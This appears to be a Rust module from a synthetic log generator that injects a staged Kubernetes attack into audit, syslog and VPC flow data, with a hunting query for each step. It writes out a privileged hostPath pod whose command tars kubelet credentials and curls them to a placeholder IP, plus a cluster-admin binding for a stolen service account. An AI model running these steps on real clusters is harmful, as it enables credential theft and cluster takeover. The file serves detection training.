//! The one attack woven into the hour: an SSH brute force, anonymous API probing, a stolen service-account
//! token enumerating secrets, an exec into the token's pod, a privileged hostPath pod, a cluster-admin
//! binding and an exfiltration, all from outside addresses that no benign line uses.

use crate::audit::{crb_reason, obj, obj_g, rb_reason, Rec};
use crate::fmt::{self, Clock};
use crate::rng::{self, Rng};
use crate::stream::SysLine;
use crate::topo::Topo;
use crate::vpc::Flow;
use quarry_model::time::NANOS_PER_SEC;
use quarry_model::Kind;

const SEC: i64 = NANOS_PER_SEC;
const MIN: i64 = 60 * SEC;
const MS: i64 = 1_000_000;

/// The attacker's address (RFC 5737 documentation range).
pub const ATTACKER_IP: &str = "203.0.113.66";
/// Where the data goes (RFC 5737 documentation range).
pub const EXFIL_IP: &str = "198.51.100.77";
/// The stolen service account.
pub const STOLEN_USER: &str = "system:serviceaccount:payments:payments-api";
/// Name of the privileged pod the attacker creates in kube-system.
pub const PRIV_POD: &str = "kube-node-debugger";
/// Name of the ClusterRoleBinding the attacker creates.
pub const CRB_NAME: &str = "eks-node-debugger";
/// The over-broad ClusterRole that lets the stolen account create pods and bindings.
pub const OPS_ROLE: &str = "payments-ops";

/// One step of the attack and how a hunter finds it.
#[derive(Debug, Clone)]
pub struct AttackStep {
    /// Short name (`ssh-bruteforce`, `anonymous-probe`, ...).
    pub name: &'static str,
    /// What happened.
    pub what: String,
    /// The kind of log that shows it.
    pub kind: Kind,
    /// First event of the step (UTC nanoseconds).
    pub start_ns: i64,
    /// Last event of the step (UTC nanoseconds).
    pub end_ns: i64,
    /// A Logs-Insights-style query that finds it.
    pub query: String,
}

/// The facts of the attack, for tests and the guided hunt.
#[derive(Debug, Clone)]
pub struct Attack {
    /// The attacker's address: SSH brute force and every API request (`sourceIPs.0`).
    pub attacker_ip: String,
    /// Where the data went (VPC flow `dstaddr`, and the privileged pod's command).
    pub exfil_ip: String,
    /// The stolen service account (`user.username`).
    pub stolen_user: String,
    /// The pod the stolen token was issued to (the token's `authentication.kubernetes.io/pod-name`).
    pub token_pod: String,
    /// Namespace of the pod the attacker execs into.
    pub exec_namespace: String,
    /// The pod the attacker execs into (`objectRef.name` of the `exec` subresource).
    pub exec_pod: String,
    /// Its container.
    pub exec_container: String,
    /// Namespace of the privileged pod.
    pub privileged_namespace: String,
    /// Name of the privileged pod.
    pub privileged_pod: String,
    /// Name of the ClusterRoleBinding the attacker creates.
    pub clusterrolebinding: String,
    /// The role it binds.
    pub cluster_role: String,
    /// Node the privileged pod runs on, that is brute-forced and that exfiltrates.
    pub node: String,
    /// That node's private address (VPC flow `srcaddr` of the exfiltration).
    pub node_ip: String,
    /// PostgreSQL pod that served the dump.
    pub db_pod: String,
    /// Bytes sent to the exfiltration address.
    pub exfil_bytes: u64,
    /// Failed SSH logins from the attacker.
    pub ssh_attempts: u32,
    /// Lines (over all files) that contain the attacker's address.
    pub attacker_ip_lines: u64,
    /// Lines (over all files) that contain the exfiltration address.
    pub exfil_ip_lines: u64,
    /// The steps in the order they happen.
    pub steps: Vec<AttackStep>,
}

/// Everything the attack writes into the files it touches.
pub struct Plan {
    pub audit: Vec<(i64, Rec)>,
    pub secure: Vec<(i64, SysLine)>,
    pub flows: Vec<Flow>,
    pub facts: Attack,
}

fn ip_u32(s: &str) -> u32 {
    s.split('.')
        .filter_map(|o| o.parse::<u32>().ok())
        .fold(0, |a, o| (a << 8) | o)
}

const SSH_USERS: [&str; 14] = [
    "root", "admin", "ec2-user", "ubuntu", "root", "test", "oracle", "postgres", "root", "deploy",
    "git", "ec2-user", "jenkins", "kube",
];

/// The attack's events, built from the topology.
pub fn plan(t: &Topo) -> Plan {
    let mut r = rng::keyed(t.seed, "attack");
    let ta = t.attack;
    let s = ta.probe;
    let victim = &t.pods[t.victim];
    let node = &t.nodes[victim.node];
    let db = t
        .pods
        .iter()
        .find(|p| p.app == crate::topo::App::Postgres)
        .map(|p| p.name.clone())
        .unwrap_or_default();
    let attacker = ip_u32(ATTACKER_IP);
    let exfil = ip_u32(EXFIL_IP);

    // (0) SSH brute force against the node's public address.
    let mut secure = Vec::new();
    let mut flows = Vec::new();
    let mut c = ta.ssh;
    let mut pid = 28_000 + rng::range(&mut r, 0, 3000) as u32;
    let attempts = SSH_USERS.len() as u32 * 3;
    for i in 0..attempts {
        let user = SSH_USERS[(i as usize * 5 + i as usize / 14) % SSH_USERS.len()];
        let port = rng::range(&mut r, 32_768, 60_999);
        let valid = matches!(user, "root" | "ec2-user");
        let mut lines: Vec<String> = Vec::new();
        if !valid {
            lines.push(format!(
                "Invalid user {user} from {ATTACKER_IP} port {port}"
            ));
            lines.push("pam_unix(sshd:auth): check pass; user unknown".to_string());
            lines.push(format!(
                "pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost={ATTACKER_IP}"
            ));
            lines.push(format!(
                "Failed password for invalid user {user} from {ATTACKER_IP} port {port} ssh2"
            ));
            lines.push(format!(
                "Connection closed by invalid user {user} {ATTACKER_IP} port {port} [preauth]"
            ));
        } else {
            lines.push(format!(
                "pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost={ATTACKER_IP}  user={user}"
            ));
            lines.push(format!(
                "Failed password for {user} from {ATTACKER_IP} port {port} ssh2"
            ));
            lines.push(format!(
                "Connection closed by authenticating user {user} {ATTACKER_IP} port {port} [preauth]"
            ));
        }
        let mut lt = c;
        for msg in lines {
            secure.push((
                lt,
                SysLine {
                    prog: "sshd",
                    pid,
                    msg,
                },
            ));
            lt += rng::range(&mut r, 5 * MS as u64, 1800 * MS as u64) as i64;
        }
        let sec = c / SEC;
        let dur = rng::range(&mut r, 2, 5) as i64;
        let pk = rng::range(&mut r, 11, 19);
        flows.push(Flow {
            start: sec,
            end: sec + dur,
            eni: node.eni.clone(),
            src: attacker,
            dst: node.ip,
            sport: port as u16,
            dport: 22,
            proto: 6,
            packets: pk,
            bytes: pk * 120 + rng::range(&mut r, 400, 900),
            accept: true,
        });
        flows.push(Flow {
            start: sec,
            end: sec + dur,
            eni: node.eni.clone(),
            src: node.ip,
            dst: attacker,
            sport: 22,
            dport: port as u16,
            proto: 6,
            packets: pk - 2,
            bytes: (pk - 2) * 110 + rng::range(&mut r, 900, 1600),
            accept: true,
        });
        pid += rng::range(&mut r, 1, 9) as u32;
        c = lt + rng::range(&mut r, 1500 * MS as u64, 6500 * MS as u64) as i64;
    }
    let ssh_end = c;

    // (1) Anonymous probing of the public API endpoint.
    let anon = r#"{"username":"system:anonymous","groups":["system:unauthenticated"]}"#;
    let curl = "curl/8.5.0";
    let mut audit = Vec::new();
    let mut c = s;
    let step = |c: &mut i64, r: &mut Rng, rec: Rec, audit: &mut Vec<(i64, Rec)>| {
        audit.push((*c, rec));
        *c += rng::range(r, 700 * MS as u64, 9000 * MS as u64) as i64;
    };
    for uri in ["/api", "/apis/authentication.k8s.io/v1/selfsubjectreviews"] {
        let mut rec = Rec::new("get", uri, "{}", ATTACKER_IP, curl)
            .fail(
                401,
                "Unauthorized",
                "Authentication failed, attempted: bearer",
            )
            .took(0.4);
        rec.stage = "ResponseStarted";
        rec.authz = None;
        if uri.contains("selfsubject") {
            rec.verb = "create";
        }
        step(&mut c, &mut r, rec, &mut audit);
    }
    let public_info = crb_reason(
        "system:public-info-viewer",
        "system:public-info-viewer",
        "Group \"system:unauthenticated\"",
    );
    let anon_rec = |verb: &'static str, uri: &str| Rec::new(verb, uri, anon, ATTACKER_IP, curl);
    step(
        &mut c,
        &mut r,
        anon_rec("get", "/version").allow(&public_info).took(0.8),
        &mut audit,
    );
    step(
        &mut c,
        &mut r,
        anon_rec("get", "/healthz").allow(&public_info).took(0.6),
        &mut audit,
    );
    for path in ["/api", "/apis", "/openapi/v2"] {
        step(
            &mut c,
            &mut r,
            anon_rec("get", path)
                .forbid(
                    &format!("forbidden: User \"system:anonymous\" cannot get path \"{path}\""),
                    None,
                )
                .took(0.7),
            &mut audit,
        );
    }
    let anon_list = [
        ("/api/v1/namespaces", "namespaces", None),
        (
            "/api/v1/namespaces/kube-system/secrets",
            "secrets",
            Some("kube-system"),
        ),
        ("/api/v1/pods", "pods", None),
        (
            "/api/v1/namespaces/default/secrets",
            "secrets",
            Some("default"),
        ),
    ];
    for (uri, res, ns) in anon_list {
        let scope = match ns {
            Some(ns) => format!("in the namespace \"{ns}\""),
            None => "at the cluster scope".to_string(),
        };
        step(
            &mut c,
            &mut r,
            anon_rec("list", uri)
                .obj(obj(res, ns, None))
                .forbid(
                    &format!("{res} is forbidden: User \"system:anonymous\" cannot list resource \"{res}\" in API group \"\" {scope}"),
                    Some(res),
                )
                .took(0.9),
            &mut audit,
        );
    }
    step(
        &mut c,
        &mut r,
        anon_rec(
            "list",
            "/apis/rbac.authorization.k8s.io/v1/clusterrolebindings",
        )
        .obj(obj_g("rbac.authorization.k8s.io", "clusterrolebindings", None, None))
        .forbid("clusterrolebindings.rbac.authorization.k8s.io is forbidden: User \"system:anonymous\" cannot list resource \"clusterrolebindings\" in API group \"rbac.authorization.k8s.io\" at the cluster scope", Some("clusterrolebindings.rbac.authorization.k8s.io"))
        .took(0.8),
        &mut audit,
    );
    let probe_end = c;

    // (2) The stolen token: who am I, what can I do, which secrets can I read.
    let kubectl = "kubectl/v1.30.1 (linux/amd64) kubernetes/6911225";
    let tok = victim.user_json.as_str();
    let sa_subject = "ServiceAccount \"payments-api/payments\"";
    let ops = crb_reason(OPS_ROLE, OPS_ROLE, sa_subject);
    let ns_role = rb_reason(
        "payments-api",
        "payments",
        "Role",
        "payments-api",
        sa_subject,
    );
    let basic = crb_reason(
        "system:basic-user",
        "system:basic-user",
        "Group \"system:authenticated\"",
    );
    let discovery = crb_reason(
        "system:discovery",
        "system:discovery",
        "Group \"system:authenticated\"",
    );
    let tr = |verb: &'static str, uri: &str| Rec::new(verb, uri, tok, ATTACKER_IP, kubectl);
    let deny = |verb: &str, res: &str, group: &str, scope: &str| {
        format!(
            "{res} is forbidden: User \"{STOLEN_USER}\" cannot {verb} resource \"{res}\" in API group \"{group}\" {scope}"
        )
    };
    let mut c = ta.token;
    for p in ["/api?timeout=32s", "/apis?timeout=32s"] {
        step(
            &mut c,
            &mut r,
            tr("get", p).allow(&discovery).took(2.0),
            &mut audit,
        );
    }
    step(
        &mut c,
        &mut r,
        tr(
            "create",
            "/apis/authorization.k8s.io/v1/selfsubjectrulesreviews",
        )
        .obj(obj_g(
            "authorization.k8s.io",
            "selfsubjectrulesreviews",
            None,
            None,
        ))
        .code(201)
        .allow(&basic)
        .took(3.0),
        &mut audit,
    );
    step(
        &mut c,
        &mut r,
        tr("list", "/api/v1/secrets?limit=500")
            .obj(obj("secrets", None, None))
            .forbid(
                &deny("list", "secrets", "", "at the cluster scope"),
                Some("secrets"),
            )
            .took(1.2),
        &mut audit,
    );
    step(
        &mut c,
        &mut r,
        tr("list", "/api/v1/namespaces?limit=500")
            .obj(obj("namespaces", None, None))
            .forbid(
                &deny("list", "namespaces", "", "at the cluster scope"),
                Some("namespaces"),
            )
            .took(1.1),
        &mut audit,
    );
    step(
        &mut c,
        &mut r,
        tr("list", "/api/v1/namespaces/payments/secrets?limit=500")
            .obj(obj("secrets", Some("payments"), None))
            .allow(&ns_role)
            .took(6.0),
        &mut audit,
    );
    for name in [
        "postgres-credentials",
        "stripe-api-key",
        "payments-api-jwt-signing",
    ] {
        step(
            &mut c,
            &mut r,
            tr(
                "get",
                &format!("/api/v1/namespaces/payments/secrets/{name}"),
            )
            .obj(obj("secrets", Some("payments"), Some(name)))
            .allow(&ns_role)
            .took(2.0),
            &mut audit,
        );
    }
    for ns in ["kube-system", "shop", "ci"] {
        step(
            &mut c,
            &mut r,
            tr(
                "list",
                &format!("/api/v1/namespaces/{ns}/secrets?limit=500"),
            )
            .obj(obj("secrets", Some(ns), None))
            .forbid(
                &deny("list", "secrets", "", &format!("in the namespace \"{ns}\"")),
                Some("secrets"),
            )
            .took(1.0),
            &mut audit,
        );
    }
    step(
        &mut c,
        &mut r,
        tr("get", "/api/v1/namespaces/kube-system/configmaps/aws-auth")
            .obj(obj("configmaps", Some("kube-system"), Some("aws-auth")))
            .forbid(
                &deny("get", "configmaps", "", "in the namespace \"kube-system\""),
                Some("configmaps"),
            )
            .took(1.0),
        &mut audit,
    );
    step(
        &mut c,
        &mut r,
        tr("list", "/api/v1/pods?limit=500")
            .obj(obj("pods", None, None))
            .allow(&ops)
            .took(24.0),
        &mut audit,
    );
    step(
        &mut c,
        &mut r,
        tr("list", "/api/v1/nodes?limit=500")
            .obj(obj("nodes", None, None))
            .forbid(
                &deny("list", "nodes", "", "at the cluster scope"),
                Some("nodes"),
            )
            .took(1.0),
        &mut audit,
    );
    let token_end = c;

    // (3) Exec into the pod the token belongs to.
    let exec_at = ta.exec;
    audit.push((
        exec_at - rng::range(&mut r, 250 * MS as u64, 900 * MS as u64) as i64,
        tr(
            "get",
            &format!("/api/v1/namespaces/payments/pods/{}", victim.name),
        )
        .obj(obj("pods", Some("payments"), Some(&victim.name)))
        .allow(&ops)
        .took(2.0),
    ));
    audit.push((
        exec_at,
        tr(
            "create",
            &format!(
                "/api/v1/namespaces/payments/pods/{}/exec?command=%2Fbin%2Fsh&container=payments-api&stdin=true&stdout=true&tty=true",
                victim.name
            ),
        )
        .obj(obj("pods", Some("payments"), Some(&victim.name)).sub("exec"))
        .code(101)
        .allow(&ops)
        .took(1210.0),
    ));

    // (4) A privileged pod with the node's root filesystem, pinned to the same node.
    let priv_at = ta.privileged;
    let priv_pod = t
        .pods
        .iter()
        .find(|p| p.app == crate::topo::App::Debugger)
        .map(|p| (p.uid.clone(), p.container_ids[0].clone()))
        .unwrap_or_default();
    let cmd = format!(
        "sleep 180; chroot /host sh -c 'tar czf - /var/lib/kubelet/pki /etc/kubernetes /var/lib/kubelet/pods/{}/volumes | curl -sk --data-binary @- https://{EXFIL_IP}/u/{}'; sleep 86400",
        victim.uid,
        rng::hex(&mut r, 8)
    );
    let spec = format!(
        "\"spec\":{{\"volumes\":[{{\"name\":\"host\",\"hostPath\":{{\"path\":\"/\",\"type\":\"\"}}}}],\"containers\":[{{\"name\":\"debug\",\"image\":\"alpine:3.19\",\"command\":[\"/bin/sh\",\"-c\",\"{}\"],\"resources\":{{}},\"volumeMounts\":[{{\"name\":\"host\",\"mountPath\":\"/host\"}}],\"imagePullPolicy\":\"IfNotPresent\",\"securityContext\":{{\"privileged\":true}}}}],\"restartPolicy\":\"Never\",\"nodeName\":\"{}\",\"hostNetwork\":true,\"hostPID\":true,\"tolerations\":[{{\"operator\":\"Exists\"}}]}}",
        fmt::json_escape(&cmd),
        node.name
    );
    let req = format!(
        "{{\"kind\":\"Pod\",\"apiVersion\":\"v1\",\"metadata\":{{\"name\":\"{PRIV_POD}\",\"namespace\":\"kube-system\",\"creationTimestamp\":null,\"labels\":{{\"app\":\"{PRIV_POD}\"}}}},{spec},\"status\":{{}}}}"
    );
    let created = fmt::string(|o| Clock::default().rfc3339_nano(o, priv_at - priv_at % SEC));
    let resp = format!(
        "{{\"kind\":\"Pod\",\"apiVersion\":\"v1\",\"metadata\":{{\"name\":\"{PRIV_POD}\",\"namespace\":\"kube-system\",\"uid\":\"{}\",\"resourceVersion\":\"{}\",\"creationTimestamp\":\"{created}\",\"labels\":{{\"app\":\"{PRIV_POD}\"}}}},{},\"status\":{{\"phase\":\"Pending\",\"qosClass\":\"BestEffort\"}}}}",
        priv_pod.0,
        4_391_000 + rng::range(&mut r, 0, 999),
        spec.replacen(
            "\"restartPolicy\"",
            "\"serviceAccountName\":\"default\",\"serviceAccount\":\"default\",\"restartPolicy\"",
            1
        )
    );
    audit.push((
        priv_at,
        tr("create", "/api/v1/namespaces/kube-system/pods")
            .obj(obj("pods", Some("kube-system"), Some(PRIV_POD)))
            .level("RequestResponse")
            .req(req)
            .resp(resp)
            .code(201)
            .allow(&ops)
            .ann(
                "pod-security.kubernetes.io/enforce-policy",
                "privileged:latest",
            )
            .took(17.0),
    ));
    // The kubelet's side of it: a token for the pod and its status (from the node, not the attacker).
    audit.push((
        priv_at + 1100 * MS,
        Rec::new(
            "create",
            "/api/v1/namespaces/kube-system/serviceaccounts/default/token",
            &node.user_json,
            &node.ip_s,
            crate::topo::KUBELET_UA,
        )
        .obj(obj("serviceaccounts", Some("kube-system"), Some("default")).sub("token"))
        .code(201)
        .took(4.0),
    ));
    for dt in [2_300, 10_200] {
        audit.push((
            priv_at + dt * MS,
            Rec::new(
                "patch",
                format!("/api/v1/namespaces/kube-system/pods/{PRIV_POD}/status"),
                &node.user_json,
                &node.ip_s,
                crate::topo::KUBELET_UA,
            )
            .obj(obj("pods", Some("kube-system"), Some(PRIV_POD)).sub("status"))
            .took(6.0),
        ));
    }

    // (5) cluster-admin for the stolen service account, then the secrets it could not read before.
    let crb_at = ta.crb;
    let crb_body = format!(
        "{{\"kind\":\"ClusterRoleBinding\",\"apiVersion\":\"rbac.authorization.k8s.io/v1\",\"metadata\":{{\"name\":\"{CRB_NAME}\",\"creationTimestamp\":null}},\"subjects\":[{{\"kind\":\"ServiceAccount\",\"name\":\"payments-api\",\"namespace\":\"payments\"}}],\"roleRef\":{{\"apiGroup\":\"rbac.authorization.k8s.io\",\"kind\":\"ClusterRole\",\"name\":\"cluster-admin\"}}}}"
    );
    let crb_resp = crb_body.replacen(
        "\"creationTimestamp\":null",
        &format!(
            "\"uid\":\"{}\",\"resourceVersion\":\"{}\",\"creationTimestamp\":\"{}\"",
            rng::uuid(&mut r),
            4_392_000 + rng::range(&mut r, 0, 999),
            fmt::string(|o| Clock::default().rfc3339_nano(o, crb_at - crb_at % SEC))
        ),
        1,
    );
    audit.push((
        crb_at,
        tr(
            "create",
            "/apis/rbac.authorization.k8s.io/v1/clusterrolebindings?fieldManager=kubectl-create&fieldValidation=Strict",
        )
        .obj(obj_g(
            "rbac.authorization.k8s.io",
            "clusterrolebindings",
            None,
            Some(CRB_NAME),
        ))
        .level("RequestResponse")
        .req(crb_body)
        .resp(crb_resp)
        .code(201)
        .allow(&ops)
        .took(9.0),
    ));
    let admin = crb_reason(CRB_NAME, "cluster-admin", sa_subject);
    let mut c = crb_at + rng::range(&mut r, 20 * SEC as u64, 40 * SEC as u64) as i64;
    step(
        &mut c,
        &mut r,
        tr("list", "/api/v1/secrets?limit=500")
            .obj(obj("secrets", None, None))
            .allow(&admin)
            .took(48.0),
        &mut audit,
    );
    step(
        &mut c,
        &mut r,
        tr("get", "/api/v1/namespaces/kube-system/configmaps/aws-auth")
            .obj(obj("configmaps", Some("kube-system"), Some("aws-auth")))
            .allow(&admin)
            .took(2.0),
        &mut audit,
    );
    let escalation_end = c;

    // (6) Exfiltration from the node (hostNetwork pod) to the outside address, one record per minute.
    let ex0 = ta.exfil / SEC;
    let sport = rng::range(&mut r, 40_000, 60_000) as u16;
    let mut exfil_bytes = 0u64;
    let minutes = ta.exfil_len / MIN;
    for m in 0..minutes {
        let start = ex0 + m * 60;
        let bytes = rng::range(&mut r, 185_000_000, 235_000_000);
        exfil_bytes += bytes;
        let pk = bytes / 1448 + 1;
        flows.push(Flow {
            start,
            end: start + 59,
            eni: node.eni.clone(),
            src: node.ip,
            dst: exfil,
            sport,
            dport: 443,
            proto: 6,
            packets: pk,
            bytes,
            accept: true,
        });
        flows.push(Flow {
            start,
            end: start + 59,
            eni: node.eni.clone(),
            src: exfil,
            dst: node.ip,
            sport: 443,
            dport: sport,
            proto: 6,
            packets: pk / 2,
            bytes: pk / 2 * 52,
            accept: true,
        });
    }

    let attacker_ip_lines = secure
        .iter()
        .filter(|(_, l)| l.msg.contains(ATTACKER_IP))
        .count() as u64
        + audit.iter().filter(|(_, a)| a.ip == ATTACKER_IP).count() as u64
        + flows
            .iter()
            .filter(|f| f.src == attacker || f.dst == attacker)
            .count() as u64;
    // VPC records plus the privileged pod's creation (its command names the address).
    let exfil_ip_lines = flows
        .iter()
        .filter(|f| f.src == exfil || f.dst == exfil)
        .count() as u64
        + 1;

    let ip_filter = format!("filter sourceIPs.0 = \"{ATTACKER_IP}\"");
    let steps = vec![
        AttackStep {
            name: "ssh-bruteforce",
            what: format!("{attempts} failed SSH password logins on {} from {ATTACKER_IP}", node.host),
            kind: Kind::Syslog,
            start_ns: ta.ssh,
            end_ns: ssh_end,
            query: format!("filter @message like \"Failed password\" and @message like \"{ATTACKER_IP}\" | stats count(*) by kubernetes.node"),
        },
        AttackStep {
            name: "anonymous-probe",
            what: "unauthenticated and anonymous requests to /api, /apis, /version and secrets, answered 401/403".into(),
            kind: Kind::Audit,
            start_ns: s,
            end_ns: probe_end,
            query: format!("{ip_filter} and (user.username = \"system:anonymous\" or responseStatus.code = 401) | fields @timestamp, verb, requestURI, responseStatus.code"),
        },
        AttackStep {
            name: "stolen-token-secrets",
            what: format!("{STOLEN_USER} (token of pod {}) from {ATTACKER_IP} lists and reads secrets", victim.name),
            kind: Kind::Audit,
            start_ns: ta.token,
            end_ns: token_end,
            query: format!("filter user.username = \"{STOLEN_USER}\" and objectRef.resource = \"secrets\" | stats count(*) by sourceIPs.0, verb, objectRef.namespace, responseStatus.code"),
        },
        AttackStep {
            name: "exec",
            what: format!("exec /bin/sh into payments/{} (container payments-api), then pg_dump from that pod against {db}", victim.name),
            kind: Kind::Audit,
            start_ns: exec_at,
            end_ns: ta.dump + 70 * SEC,
            query: "filter objectRef.subresource = \"exec\" | fields @timestamp, user.username, sourceIPs.0, objectRef.namespace, objectRef.name, requestURI".into(),
        },
        AttackStep {
            name: "privileged-pod",
            what: format!("privileged hostNetwork/hostPID pod kube-system/{PRIV_POD} mounting hostPath / on {}", node.name),
            kind: Kind::Audit,
            start_ns: priv_at,
            end_ns: ta.pod_runs,
            query: "filter verb = \"create\" and objectRef.resource = \"pods\" and ispresent(requestObject.spec.volumes.0.hostPath.path) | fields @timestamp, user.username, sourceIPs.0, objectRef.namespace, objectRef.name, requestObject.spec.volumes.0.hostPath.path".into(),
        },
        AttackStep {
            name: "clusterrolebinding",
            what: format!("ClusterRoleBinding {CRB_NAME} grants cluster-admin to {STOLEN_USER}"),
            kind: Kind::Audit,
            start_ns: crb_at,
            end_ns: escalation_end,
            query: "filter objectRef.resource = \"clusterrolebindings\" and verb = \"create\" | fields @timestamp, user.username, sourceIPs.0, objectRef.name, requestObject.roleRef.name".into(),
        },
        AttackStep {
            name: "exfiltration",
            what: format!("{exfil_bytes} bytes from {} to {EXFIL_IP}:443", node.ip_s),
            kind: Kind::VpcFlow,
            start_ns: ex0 * SEC,
            end_ns: (ex0 + minutes * 60) * SEC,
            query: "stats sum(bytes) as bytesTransferred by srcAddr, dstAddr | sort bytesTransferred desc | limit 10".into(),
        },
    ];
    let facts = Attack {
        attacker_ip: ATTACKER_IP.into(),
        exfil_ip: EXFIL_IP.into(),
        stolen_user: STOLEN_USER.into(),
        token_pod: victim.name.clone(),
        exec_namespace: "payments".into(),
        exec_pod: victim.name.clone(),
        exec_container: "payments-api".into(),
        privileged_namespace: "kube-system".into(),
        privileged_pod: PRIV_POD.into(),
        clusterrolebinding: CRB_NAME.into(),
        cluster_role: "cluster-admin".into(),
        node: node.name.clone(),
        node_ip: node.ip_s.clone(),
        db_pod: db,
        exfil_bytes,
        ssh_attempts: attempts,
        attacker_ip_lines,
        exfil_ip_lines,
        steps,
    };
    Plan {
        audit,
        secure,
        flows,
        facts,
    }
}
